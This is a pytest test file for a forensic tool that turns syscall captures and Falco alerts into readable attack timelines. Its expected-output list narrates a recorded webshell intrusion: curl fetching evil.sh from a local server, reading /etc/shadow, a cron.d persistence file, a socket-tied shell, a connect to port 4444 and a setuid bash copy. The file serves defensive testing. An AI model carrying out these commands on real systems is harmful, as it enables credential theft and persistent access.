"""The timeline: in order, alerts inline, noise collapsed and counted."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from tests.reference import SHARED, needs_reference
from tiercel import scan
from tiercel.capture.scenario import Scenario
from tiercel.cli.main import app
from tiercel.reconstruct.scene import Scene
from tiercel.reconstruct.views.columns import column
from tiercel.reconstruct.views.hiding import SENTENCES
from tiercel.reconstruct.views.text_timeline import render
from tiercel.reconstruct.views.timeline import TIMELINE, hidden, timeline
from tiercel.replay import Replay
from tiercel.store.ingest import ingest
from tiercel.store.manifest import Source
from tiercel.store.store import Store

WEBSHELL = SHARED / "captures/modern/a-seed-webshell/a-seed-webshell.scap"
NOISY = SHARED / "captures/modern/e-noisy-mixture/e-noisy-mixture.scap"
UPSTREAM = SHARED / "rules/upstream/falco_rules.yaml"

Row = dict[str, Any]


@pytest.fixture(scope="module")
def webshell() -> Scene:
    return Scene.of(Replay(WEBSHELL), alerts=scan(WEBSHELL, UPSTREAM))


def rows(table: pa.Table, **wanted: object) -> list[Row]:
    return [row for row in table.to_pylist() if all(row[name] == value for name, value in wanted.items())]


def scene(story: Scenario, path: Path) -> Scene:
    story.write(path / "story.scap")
    return Scene.of(Replay(path / "story.scap"))


STORY = [
    "ran bash",
    "ran curl http://127.0.0.1:8080/evil.sh -o /tmp/evil.sh",
    "connected 127.0.0.1:33608->127.0.0.1:8080 (85 B sent, 555 B received)",
    "created /tmp/evil.sh (316 B)",
    "ran chmod +x /tmp/evil.sh",
    "changed mode of /tmp/evil.sh (+x 0755)",
    "ran evil.sh /tmp/evil.sh (/usr/bin/bash)",
    "created /tmp/.s (221 B)",
    "ran cat /etc/shadow",
    "read /etc/shadow (221 B)",
    "created /etc/cron.d/x (26 B)",
    "connected 127.0.0.1:33614->127.0.0.1:8080 (22 B sent)",
    "tied stdout to 127.0.0.1:33614->127.0.0.1:8080",
    "tried to connect to 127.0.0.1:4444 (ECONNREFUSED)",
    "ran cp /bin/bash /tmp/.b",
    "created /tmp/.b (1.3 MB)",
    "changed mode of /tmp/.b (u+s 04755)",
    "ran .b -c true (/tmp/.b)",
    "deleted /tmp/evil.sh",
    "created /root/.bash_history",
]


@needs_reference
def test_the_attack_reads_as_a_story(webshell: Scene) -> None:
    told = iter([row["says"] for row in rows(timeline(webshell, container="3f4e9a1b7c2d"))])
    for sentence in STORY:
        assert sentence in told, f"{sentence!r} is missing or out of order"


@needs_reference
def test_alerts_follow_the_act_they_are_about(webshell: Scene) -> None:
    told = timeline(webshell).to_pylist()
    at = next(place for place, row in enumerate(told) if row["kind"] == "Read sensitive file untrusted")
    assert (told[at]["row"], told[at]["priority"]) == ("alert", "Warning")
    assert told[at - 1]["object"] == "/etc/shadow"
    assert told[at]["act"] == told[at - 1]["act"]


@needs_reference
def test_nothing_is_left_out_silently(webshell: Scene) -> None:
    table = timeline(webshell)
    left_out = hidden(table)
    assert left_out.keys() <= SENTENCES.keys()
    assert len(rows(table, row="act")) + sum(left_out.values()) == webshell.acts.num_rows
    assert len(rows(table, row="alert")) == webshell.alerts.num_rows
    (first, *_) = rows(table, row="collapsed")
    assert first["kind"] == "runtime"
    assert first["count"] > 50


@needs_reference
def test_without_collapsing_everything_is_told(webshell: Scene) -> None:
    table = timeline(webshell, collapse=False)
    assert len(rows(table, row="act")) == webshell.acts.num_rows
    assert hidden(table) == {}
    assert table.schema.names == TIMELINE.names


@needs_reference
def test_filters(webshell: Scene) -> None:
    (refused,) = rows(timeline(webshell, kinds=["connect"]), row="act", ok=False)
    assert refused["detail"] == "ECONNREFUSED"
    assert {row["row"] for row in rows(timeline(webshell, alerts_only=True))} == {"alert"}
    (script,) = [row for row in rows(timeline(webshell, kinds=["exec"]), row="act") if row["name"] == "evil.sh"]
    below = timeline(webshell, process=script["process"], since=script["ts"])
    assert {row["name"] for row in rows(below)} == {"evil.sh", "cat", "cp", "chmod", ".b", "rm"}
    assert rows(timeline(webshell, host="another")) == []
    assert rows(timeline(webshell, until=script["ts"]))[-1]["ts"] < script["ts"]


@needs_reference
def test_a_quarter_of_a_million_events_come_down_to_a_few_pages() -> None:
    noisy = Scene.of(Replay(NOISY))
    table = timeline(noisy)
    assert table.num_rows < 800
    says = [row["says"] for row in table.to_pylist()]
    assert "changed mode of /tmp/.b (u+s 04755)" in says


def test_what_one_process_repeats_is_told_once(tmp_path: Path) -> None:
    story = Scenario()
    beacon = story.process("/opt/beacon")
    for _ in range(5):
        fd = beacon.connect(("203.0.113.9", 443))
        beacon.send(fd, b"x" * 10)
        beacon.close(fd)
        story.wait(60)
    table = timeline(scene(story, tmp_path))
    (told,) = rows(table, kind="connect")
    assert (told["count"], told["sent"]) == (5, 50)
    assert told["last_ts"] - told["ts"] > 200 * 10**9
    assert hidden(table)["repeated"] == 4


def test_a_command_that_is_started_again_and_again_is_told_once(tmp_path: Path) -> None:
    story = Scenario()
    cron = story.process("/usr/sbin/cron")
    for _ in range(3):
        job = cron.spawn("/usr/bin/backup", "--daily")
        job.unlink("/var/backups/old")
        job.exit()
    table = timeline(scene(story, tmp_path))
    assert [(row["says"], row["count"]) for row in rows(table)] == [
        ("ran backup --daily", 3),
        ("deleted /var/backups/old", 3),
    ]


def test_someone_who_calls_himself_a_runtime_is_told(tmp_path: Path) -> None:
    story = Scenario()
    shell = story.process("/bin/sh")
    for path in ("/usr/bin/runc", "/tmp/runc", "runc"):
        shell.spawn(path, "init").unshare("CLONE_NEWNS")
    table = timeline(scene(story, tmp_path))
    told = rows(table, kind="namespace")
    assert [row["says"] for row in told] == ["changed namespaces: unshare: CLONE_NEWNS"] * 2
    assert hidden(table)["runtime"] == 2


def test_a_package_manager_is_collapsed_but_for_what_an_intruder_would_do(tmp_path: Path) -> None:
    story = Scenario()
    dpkg = story.init.spawn("/usr/bin/dpkg", "-i", "tool.deb")
    for number in range(20):
        dpkg.open(f"/usr/share/tool/{number}", "O_WRONLY|O_CREAT|O_F_CREATED")
    dpkg.open("/etc/cron.d/tool", "O_WRONLY|O_CREAT|O_F_CREATED")
    table = timeline(scene(story, tmp_path))
    assert [row["object"] for row in rows(table, kind="create")] == ["/etc/cron.d/tool"]
    (collapsed,) = rows(table, row="collapsed")
    assert (collapsed["count"], collapsed["detail"]) == (20, "dpkg")


def test_names_cannot_write_to_the_terminal(tmp_path: Path) -> None:
    story = Scenario()
    story.process("/bin/sh").spawn("/bin/\x1b[2J", "gone\u202e\n")
    lines = list(render(timeline(scene(story, tmp_path))))
    assert any(line.endswith("ran \\x1b[2J gone\\u202e\\n") for line in lines)
    assert all(line.isprintable() for line in lines)


def test_lines_are_cut_to_the_terminal(tmp_path: Path) -> None:
    story = Scenario()
    story.process("/bin/sh").unlink("/tmp/" + "x" * 300)
    lines = list(render(timeline(scene(story, tmp_path)), 80))
    assert max(map(len, lines)) == 80
    assert any(line.endswith("…") for line in lines)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("case") / "store"
    ingest(Store.create(path), Replay(WEBSHELL), Source("e1", WEBSHELL.name))
    return path


@needs_reference
def test_the_command_prints_it(store: Path) -> None:
    result = CliRunner().invoke(app, ["case", "timeline", str(store), "--container", "3f4e"])
    assert result.exit_code == 0, result.output
    assert re.search(r"  cat\[2964] +read /etc/shadow \(221 B\)", result.stdout)
    assert "shared libraries loaded" in result.stdout


@needs_reference
def test_the_command_prints_json(store: Path) -> None:
    result = CliRunner().invoke(app, ["case", "timeline", str(store), "--json", "--kind", "delete", "--pid", "2963"])
    (told,) = [json.loads(line) for line in result.stdout.splitlines()]
    assert (told["object"], told["name"]) == ("/tmp/evil.sh", "rm")
    result = CliRunner().invoke(app, ["case", "timeline", str(store), "--json"])
    last = json.loads(result.stdout.splitlines()[-1])
    assert last["row"] == "hidden"
    assert last["hidden"]["libraries"] > 100


@needs_reference
def test_the_command_says_what_is_wrong(store: Path) -> None:
    result = CliRunner().invoke(app, ["case", "timeline", str(store), "--kind", "explode"])
    assert result.exit_code != 0
    assert "no such kind of act" in str(result.exception)
    result = CliRunner().invoke(app, ["case", "timeline", str(store), "--pid", "1"])
    assert "no process had the id 1" in str(result.exception)


def test_columns_are_documented() -> None:
    assert all(field.metadata[b"doc"] for field in TIMELINE)
    assert column("x", pa.int64()).metadata is None
